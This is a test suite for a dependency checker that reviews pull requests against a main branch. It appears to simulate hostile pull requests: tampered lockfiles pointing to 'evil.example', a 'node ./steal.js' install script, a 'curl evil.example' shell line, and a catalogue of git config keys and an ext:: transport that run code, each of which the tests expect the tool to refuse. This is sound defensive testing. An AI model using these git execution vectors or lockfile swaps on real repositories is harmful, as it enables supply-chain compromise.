import { cpSync, existsSync, rmSync, writeFileSync } from 'node:fs';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createGitRepo, type GitRepo } from '../world/git.ts';
import { type TempProject, tempProject } from '../world/project.ts';
import { createWorld, type Published, type World } from '../world/world.ts';
import { npqEnv } from './npq.ts';
import { runNpqHere } from './npq-here.ts';

/**
 * A repository whose main branch passes, and pull requests against it. The pipeline of the one who reviews them runs
 * `npq check --base main`: what the pull request changed is looked at, and nothing that it says excuses it.
 */
let world: World;
let project: TempProject;
let repo: GitRepo;
let leaf: Published;
let old: Published;
let evil: Published;

interface Lockfile {
  lockfileVersion: number;
  packages: Record<string, Record<string, unknown>>;
}

const manifest = { name: 'a-project', version: '1.0.0', dependencies: { leaf: '^1.0.0', sprout: '1.x' } };
const leafEntry = 'node_modules/leaf';

/** The files of main; all tests begin there. */
const main = new Map<string, string>();
let before = 0;

beforeAll(async () => {
  world = await createWorld({ packages: 'all' });
  world.allowMissing('npm');
  old = world.registry().publish({ name: 'leaf', version: '1.0.0' });
  leaf = world.registry().publish({ name: 'leaf', version: '1.1.0' });
  evil = world.registry().publish({ name: 'evil', version: '1.1.0', files: { 'index.js': 'EVIL' } });
  world.registry().publish({ name: 'fresh-leaf', version: '2.0.0' });
  world.osv.publish({ id: 'MAL-2026-1042', name: 'evil', summary: 'Malicious code in evil (npm)' });
  project = tempProject({ 'package.json': manifest, '.npmrc': 'fund=false\n' });
  await lock();
  for (const file of ['package.json', 'package-lock.json', '.npmrc']) main.set(file, project.read(file));
  project.dispose();
});
afterAll(async () => {
  await world.close();
  expect(world.errors).toEqual([]);
});
beforeEach(() => {
  before = world.requests.length;
  project = tempProject(Object.fromEntries(main));
  repo = createGitRepo({ '.gitignore': 'node_modules\n' }, { dir: project.dir });
  repo.branch('pull-request');
});
afterEach(() => project.dispose());

async function lock(...args: readonly string[]): Promise<void> {
  const { code, stderr } = await project.npm(
    ['install', '--package-lock-only', '--no-audit', '--ignore-scripts', ...args],
    { env: npqEnv(project, world) },
  );
  expect(code, stderr).toBe(0);
  before = world.requests.length;
}

const ci = { CI: 'true' };
const check = (...args: readonly string[]) =>
  runNpqHere(['check', '--base', 'main', '--preset=ci', ...args], project, world, { env: ci });
const lockfile = () => project.readJson<Lockfile & Record<string, unknown>>('package-lock.json');

/** The pull request changes the lockfile by hand. */
function tamper(change: (lock: Lockfile, entry: Record<string, unknown>) => void): void {
  const copy = lockfile();
  change(copy, copy.packages[leafEntry] ?? {});
  project.write('package-lock.json', copy);
  repo.commit({});
}

async function expectRefused(code: number, words: RegExp, ...args: readonly string[]): Promise<void> {
  const refused = await check(...args);
  expect(refused.stderr.replace(/\s+/g, ' ')).toMatch(words);
  expect(refused.code, refused.stderr).toBe(code);
  expect(project.exists('node_modules')).toBe(false);
}

const tarballs = () =>
  world.requests
    .slice(before)
    .filter(({ path }) => path.endsWith('.tgz'))
    .map(({ path }) => path);

describe('a good pull request', () => {
  it('is quiet where it changes no dependency: nothing is looked at, and nothing claimed to be', async () => {
    repo.commit({ 'index.js': 'export {}' });
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(stderr.replace(/\s+/g, ' ')).toMatch(
      /only what changed against main \([0-9a-f]{12}\): 4 packages are as they are there/,
    );
    expect(tarballs()).toEqual([]);
  });

  it('begins where everything passes, however closely it is looked at', async () => {
    const { code, stderr } = await runNpqHere(['check', '--preset=ci'], project, world, { env: ci });
    expect(code, stderr).toBe(0);
    expect(tarballs()).toHaveLength(4);
  });

  it('has only the package looked at that it adds', async () => {
    await lock('fresh-leaf');
    repo.commit({});
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('1 package looked at');
    expect(tarballs()).toEqual(['/fresh-leaf/-/fresh-leaf-2.0.0.tgz']);
  });

  it('may write the lockfile in another way', async () => {
    const { packages, ...rest } = lockfile();
    const turned = Object.fromEntries(
      Object.entries(packages)
        .reverse()
        .map(([place, entry]) => [place, Object.fromEntries(Object.entries(entry).reverse())]),
    );
    project.write('package-lock.json', JSON.stringify({ packages: turned, ...rest }, null, '\t'));
    repo.commit({});
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(tarballs()).toEqual([]);
  });

  it('says in its document what it is compared with', async () => {
    const { stdout } = await check('--json');
    expect(JSON.parse(stdout)).toMatchObject({
      ...{ verdict: 'pass', exitCode: 0, plan: { packages: [] } },
      base: { ref: 'main', commit: repo.sha, unchanged: 4 },
    });
  });
});

describe('a hostile pull request is refused that', () => {
  it('swaps the package, with an integrity that is valid there', async () => {
    tamper((_lock, entry) => Object.assign(entry, { resolved: evil.tarballUrl, integrity: evil.integrity }));
    await expectRefused(20, /has leaf@1.1.0 come from the tarball of evil/);
  });

  it('swaps the version, with an integrity that is valid there', async () => {
    tamper((_lock, entry) => Object.assign(entry, { resolved: old.tarballUrl, integrity: old.integrity }));
    await expectRefused(20, /has leaf@1.1.0 come from the tarball of version 1.0.0/);
  });

  it('swaps the bytes', async () => {
    tamper((_lock, entry) => Object.assign(entry, { integrity: evil.integrity }));
    await expectRefused(20, /promises other bytes for leaf@1.1.0 than the registry publishes/);
  });

  it('has a package come from a foreign host, which is not asked', async () => {
    const stranger = world.foreign();
    stranger.serve('/leaf/-/leaf-1.1.0.tgz', leaf.tarball);
    tamper((_lock, entry) => Object.assign(entry, { resolved: `${stranger.url}leaf/-/leaf-1.1.0.tgz` }));
    await expectRefused(20, /the lockfile records a tarball from 127.0.0.1:\d+ at node_modules\/leaf/);
    expect(stranger.hits()).toBe(0);
  });

  it('makes a link of a package', async () => {
    project.write('evil/package.json', { name: 'leaf', version: '1.1.0' });
    tamper((lock) => {
      lock.packages[leafEntry] = { resolved: 'evil', link: true };
      lock.packages['evil'] = { name: 'leaf', version: '1.1.0' };
    });
    await expectRefused(20, /the lockfile records directory \S+evil at node_modules\/leaf/);
  });

  it('makes a git address of a package', async () => {
    const resolved = `git+ssh://git@git.example/evil/leaf.git#${'a'.repeat(40)}`;
    tamper((_lock, entry) => {
      Object.assign(entry, { resolved });
      delete entry['integrity'];
    });
    await expectRefused(20, /the lockfile records a git repository/);
  });

  it('asks for a git address where it asked for a package, in the lockfile of another package', async () => {
    tamper((lock) => {
      const [sprout] = Object.entries(lock.packages).filter(([place]) => place.endsWith('/sprout'));
      const dependencies = { leaf: 'git+ssh://git@git.example/evil/leaf.git' };
      Object.assign(sprout?.[1] ?? {}, {
        dependencies: { ...Object(sprout?.[1]['dependencies']), ...dependencies },
      });
    });
    await expectRefused(1, /in sync \(EUSAGE\): Missing: leaf@/);
  });

  it('takes the integrity away', async () => {
    tamper((_lock, entry) => delete entry['integrity']);
    const { code, stderr } = await check('--preset=strict');
    expect(stderr.replace(/\s+/g, ' ')).toContain('binds leaf@1.1.0 to no bytes');
    expect(code, stderr).toBe(21);
  });

  it('adds a dependency that is malware', async () => {
    await lock('evil');
    repo.commit({});
    await expectRefused(20, /evil 1.1.0.*known malware/);
  });

  it('asks in package.json for what the lockfile does not have', async () => {
    project.write('package.json', { ...manifest, dependencies: { ...manifest.dependencies, evil: '*' } });
    repo.commit({});
    await expectRefused(1, /in sync \(EUSAGE\): Missing: evil@1.1.0/);
  });

  it('changes .npmrc', async () => {
    repo.commit({ '.npmrc': 'fund=false\nscript-shell=./sh\n', sh: '#!/bin/sh\n' });
    await expectRefused(78, /script-shell/);
  });

  it('adds a script of its own', async () => {
    project.write('package.json', { ...manifest, scripts: { postinstall: 'node ./steal.js' } });
    repo.commit({});
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world);
    expect(stderr).toContain('node ./steal.js');
    expect(code, stderr).toBe(21);
  });

  it('takes the lockfile away, to have everything resolved anew', async () => {
    repo.git('rm', '--quiet', 'package-lock.json');
    repo.commit({});
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('There is no lockfile');
    expect(tarballs().length).toBeGreaterThan(3);
  });
});

describe('a second lockfile, beside the one that npq takes', () => {
  const yarn = (resolved: string) =>
    `# yarn lockfile v1\n\n\nleaf@^1.0.0:\n  version "1.1.0"\n  resolved "${resolved}"\n  integrity ${leaf.integrity}\n`;

  it('hides no lockfile by which the project was installed so far', async () => {
    repo.checkout('main');
    const said = { name: 'a-project', version: '1.0.0', dependencies: { leaf: '^1.0.0' } };
    repo.git('rm', '--quiet', 'package-lock.json');
    repo.commit({ 'package.json': said, 'yarn.lock': yarn(`${world.url}leaf/-/leaf-1.1.0.tgz`) });
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    await lock();
    repo.commit({ 'yarn.lock': yarn('https://evil.example/leaf.tgz') });
    await expectRefused(22, /yarn\.lock lies beside package-lock\.json/);
  });

  it('is told and no more where the base has it just so', async () => {
    repo.checkout('main');
    repo.commit({ 'yarn.lock': yarn(`${world.url}leaf/-/leaf-1.1.0.tgz`) });
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(stderr.replace(/\s+/g, ' ')).toContain('Beside it lies yarn.lock, as at the base');
  });

  it('may be npm’s own: what it is put before is by what another npm installs', async () => {
    project.write('npm-shrinkwrap.json', lockfile());
    tamper((_lock, entry) => {
      entry['resolved'] = 'https://evil.example/leaf.tgz';
    });
    await expectRefused(22, /package-lock\.json lies beside npm-shrinkwrap\.json/);
  });
});

describe('what is as it is in the base is looked at again where the pull request', () => {
  const scripted = { name: 'scripted', version: '1.0.0' };
  beforeAll(() => {
    const manifest = { scripts: { postinstall: 'node setup.js' } };
    world.registry().publish({ ...scripted, manifest, files: { 'setup.js': 'STOLEN' } });
  });

  /** Main has a package whose script is told and not asked about, because npm would not run it. */
  async function mainWith(files: Record<string, string | object>): Promise<void> {
    repo.checkout('main');
    await lock('scripted');
    repo.commit(files);
    expect((await runNpqHere(['check', '--preset=ci'], project, world, { env: ci })).code).toBe(0);
    repo.git('checkout', '--quiet', '-B', 'pull-request');
  }

  it('takes away the line of .npmrc by which no script runs', async () => {
    await mainWith({ '.npmrc': 'ignore-scripts=true\n' });
    repo.commit({ '.npmrc': 'fund=false\n' });
    await expectRefused(21, /scripted.*has an install script/);
  });

  it('approves in package.json what was denied there', async () => {
    repo.checkout('main');
    project.write('package.json', { ...manifest, allowScripts: { scripted: false } });
    await mainWith({});
    const said = project.readJson<Record<string, unknown>>('package.json');
    project.write('package.json', { ...said, allowScripts: {} });
    repo.commit({});
    await expectRefused(21, /scripted.*has an install script/);
  });

  it('has npm told in the lockfile that a package has scripts', async () => {
    tamper((_lock, entry) => {
      entry['hasInstallScript'] = true;
    });
    const { stderr } = await check();
    expect(stderr).toContain('3 packages are');
  });
});

describe('the base', () => {
  it('vouches for an .npmrc that it has just so, and for no other', async () => {
    repo.checkout('main');
    repo.commit({ '.npmrc': `registry=${world.url}\nscript-shell=./tools/sh\n`, 'tools/sh': '#!/bin/sh\n' });
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    repo.commit({ 'index.js': 'export {}' });
    const same = await check();
    expect(same.code, same.stderr).toBe(0);
    expect(same.stderr).toContain('It is the same at main.');
    repo.commit({ 'tools/sh': '#!/bin/sh\ncurl evil.example\n' });
    const other = await check();
    expect(other.code, other.stderr).toBe(78);
  });

  it('answers for the scripts that it has itself', async () => {
    repo.checkout('main');
    project.write('package.json', { ...manifest, scripts: { prepare: 'node build.js' } });
    repo.commit({});
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world);
    expect(code, stderr).toBe(0);
  });

  it('has no lockfile: everything is looked at', async () => {
    repo.checkout('main');
    repo.git('rm', '--quiet', '--cached', 'package-lock.json');
    repo.git('commit', '--quiet', '--message', 'none');
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('There is no lockfile at main');
    expect(tarballs().length).toBeGreaterThan(3);
  });

  it('is found for a project in a folder of the repository', async () => {
    repo.checkout('main');
    for (const file of ['package.json', 'package-lock.json', '.npmrc']) {
      project.write(`packages/app/${file}`, project.read(file));
    }
    repo.commit({});
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world, {
      cwd: project.path('packages', 'app'),
    });
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('4 packages are');
    expect(tarballs()).toEqual([]);
  });
});

describe('of npq.json counts', () => {
  const excuse = {
    ...{ package: 'evil', versions: '1.1.0', check: 'known-malware', reason: 'is fine', by: 'mallory' },
    ...{ expires: '2099-01-01', severity: 'critical' },
  };

  it('no waiver that the pull request brings for what it adds', async () => {
    project.write('npq.json', { waivers: [{ ...excuse, integrity: evil.integrity }] });
    await lock('evil');
    repo.commit({});
    const { code, stderr } = await check();
    expect(code, stderr).toBe(20);
    expect(stderr.replace(/\s+/g, ' ')).toContain(
      'It is not so at the base, and has no effect before it is.',
    );
  });

  it('no milder rule and no milder preset of the pull request, and it is named', async () => {
    project.write('npq.json', { preset: 'report-only', rules: { 'install-script': 'allow' } });
    await lock('evil');
    repo.commit({});
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world, { env: ci });
    expect(code, stderr).toBe(20);
    expect(stderr.replace(/\s+/g, ' ')).toMatch(
      /preset: report-only \(line 2\) makes npq milder.* no effect before it is/,
    );
  });

  it('what is stricter in the pull request, at once', async () => {
    project.write('npq.json', { preset: 'strict' });
    tamper((_lock, entry) => delete entry['integrity']);
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world, { env: ci });
    expect(code, stderr).toBe(21);
    expect(stderr.replace(/\s+/g, ' ')).toContain('makes npq stricter');
    // The way on is one that this base has no part in.
    expect(stderr).toMatch(/npq install$/m);
  });

  it('in full what stands at the base, milder or not, and no more once the pull request took it away', async () => {
    repo.checkout('main');
    project.write('npq.json', { preset: 'report-only' });
    repo.commit({});
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    repo.git('rm', '--quiet', 'npq.json');
    await lock('evil');
    repo.commit({});
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world, { env: ci });
    expect(code, stderr).toBe(0);
    expect(stderr.replace(/\s+/g, ' ')).toContain('It stands at the base.');
    expect(stderr.replace(/\s+/g, ' ')).toContain('It is gone here; what it says at the base counts.');
  });

  it('a waiver that stands at the base, for exactly what it is for', async () => {
    repo.checkout('main');
    project.write('npq.json', { waivers: [{ ...excuse, integrity: evil.integrity }] });
    repo.commit({});
    repo.git('checkout', '--quiet', '-B', 'pull-request');
    await lock('evil');
    repo.commit({});
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
  });

  it('nothing of one that cannot be understood', async () => {
    repo.commit({ 'npq.json': '{ "presett": "ci" }' });
    const { code, stderr } = await check();
    expect(code, stderr).toBe(78);
  });
});

describe('whatever the repository says', () => {
  it('reading the base starts nothing of it', async () => {
    const canary = project.path('..', 'home', 'ran');
    repo.commit({
      'canary.sh': `#!/bin/sh\ntouch '${canary}'\n`,
      '.gitattributes': '* filter=evil diff=evil\n',
    });
    const canaryScript = project.path('canary.sh');
    const include = project.path('..', 'home', 'included');
    for (const [key, value] of [
      ['core.fsmonitor', canaryScript],
      ['core.pager', canaryScript],
      ['pager.cat-file', canaryScript],
      ['pager.ls-tree', canaryScript],
      ['pager.rev-parse', canaryScript],
      ['core.sshCommand', canaryScript],
      ['core.editor', canaryScript],
      ['core.hooksPath', project.dir],
      ['core.alternateRefsCommand', canaryScript],
      ['alias.cat-file', `!${canaryScript}`],
      ['alias.rev-parse', `!${canaryScript}`],
      ['alias.ls-tree', `!${canaryScript}`],
      ['filter.evil.smudge', canaryScript],
      ['filter.evil.clean', canaryScript],
      ['diff.evil.textconv', canaryScript],
      ['include.path', include],
      ['credential.helper', `!${canaryScript}`],
    ] as const) {
      repo.git('config', key, value);
    }
    project.write('../home/included', `[core]\n\tfsmonitor = ${canaryScript}\n`);
    const { code, stderr } = await check();
    expect(code, stderr).toBe(0);
    expect(existsSync(canary)).toBe(false);
  });

  it('a missing object is not fetched by a program that the repository names', async () => {
    const canary = project.path('..', 'home', 'ran');
    repo.commit({ 'canary.sh': `#!/bin/sh\ntouch '${canary}'\n` });
    const blob = repo.git('rev-parse', 'main:package-lock.json');
    repo.git('config', 'core.repositoryFormatVersion', '1');
    repo.git('config', 'extensions.partialClone', 'origin');
    repo.git('config', 'remote.origin.url', `ext::${project.path('canary.sh')}`);
    repo.git('config', 'remote.origin.promisor', 'true');
    repo.git('config', 'protocol.ext.allow', 'always');
    rmSync(project.path('.git', 'objects', blob.slice(0, 2), blob.slice(2)));
    const { code, stderr } = await check();
    expect(code, stderr).toBe(69);
    expect(existsSync(canary)).toBe(false);
  });

  it('a git of its own on the PATH is not the one that is asked', async () => {
    const canary = project.path('..', 'home', 'ran');
    repo.commit({ 'bin/git': `#!/bin/sh\ntouch '${canary}'\n` });
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world, {
      env: { PATH: `${project.path('bin')}:${process.env['PATH']}` },
    });
    expect(code, stderr).toBe(0);
    expect(existsSync(canary)).toBe(false);
  });

  it('a folder that looks like a repository is none', async () => {
    repo.checkout('main');
    const bare = createGitRepo({ 'package-lock.json': '{}' });
    repo.commit({ 'packages/app/package.json': manifest });
    cpSync(`${bare.dir}/.git`, project.path('packages', 'app'), { recursive: true });
    bare.dispose();
    const { code, stderr } = await runNpqHere(['check', '--base', 'main'], project, world, {
      cwd: project.path('packages', 'app'),
    });
    expect(stderr).toContain('There is no lockfile at main');
    expect(code, stderr).toBe(0);
  });
});

describe('a submodule in the place of the project', () => {
  const app = ['packages', 'app'] as const;
  const checkApp = (base: string) =>
    runNpqHere(['check', '--base', base, '--preset=ci'], project, world, {
      cwd: project.path(...app),
      env: ci,
    });

  /** A repository whose own main branch has what the one around it never had. */
  function submodule(): GitRepo {
    const copy = lockfile();
    Object.assign(copy.packages[leafEntry] ?? {}, { resolved: 'https://evil.example/leaf.tgz' });
    const files = { ...Object.fromEntries(main), 'package-lock.json': copy };
    const inner = createGitRepo(files, { dir: project.path(...app) });
    repo.git(
      '-c',
      'protocol.file.allow=always',
      'submodule',
      '--quiet',
      'add',
      './packages/app',
      app.join('/'),
    );
    repo.commit({});
    return inner;
  }

  it('has no branch that vouches for it', async () => {
    submodule();
    const { code, stderr } = await checkApp('main');
    expect(stderr.replace(/\s+/g, ' ')).toContain('is a submodule of');
    expect(code, stderr).toBe(64);
  });

  it('is compared with a commit of its own, where that is named by its hash', async () => {
    const inner = submodule();
    const { code, stderr } = await checkApp(inner.sha);
    expect(stderr).toContain('3 packages are');
    expect(code, stderr).toBe(20);
  });

  it('is no submodule where the repository around it knows nothing of it', async () => {
    createGitRepo(Object.fromEntries(main), { dir: project.path(...app) });
    const { code, stderr } = await checkApp('main');
    expect(stderr).toContain('4 packages are');
    expect(code, stderr).toBe(0);
  });
});

describe('a base that cannot be had', () => {
  const refused = async (args: readonly string[], words: RegExp, code = 64) => {
    const result = await runNpqHere(args, project, world);
    expect(result.stderr.replace(/\s+/g, ' ')).toMatch(words);
    expect(result.code, result.stderr).toBe(code);
  };

  it('is no ref of this repository', () =>
    refused(['check', '--base', 'trunk'], /found "trunk", which it does not have\. → See `git branch/));

  it('begins as an option does', () => refused(['check', '--base=--help'], /value after --base/));

  it('is what two refs are called', async () => {
    repo.git('tag', 'main', 'pull-request');
    await refused(['check', '--base', 'main'], /which several refs are called/);
  });

  it('is missing in a shallow clone', async () => {
    writeFileSync(project.path('.git', 'shallow'), `${repo.git('rev-parse', 'HEAD')}\n`);
    await refused(['check', '--base', 'trunk'], /it is a shallow clone\. → Fetch it too: `fetch-depth: 0`/);
  });

  it('is outside of any repository', async () => {
    rmSync(project.path('.git'), { recursive: true });
    await refused(['check', '--base', 'main'], /to lie in a git repository/);
  });

  it('has no git to be read with', async () => {
    const result = await runNpqHere(['check', '--base', 'main'], project, world, {
      env: { PATH: project.home },
    });
    expect(result.stderr).toContain('Expected git on the PATH');
    expect(result.code).toBe(69);
  });

  it('is asked for where something is installed, or where packages are named', async () => {
    await refused(['install', '--base', 'main'], /Expected --base with a check of the whole project/);
    await refused(['check', 'leaf', '--base', 'main'], /Expected --base with a check of the whole project/);
  });
});
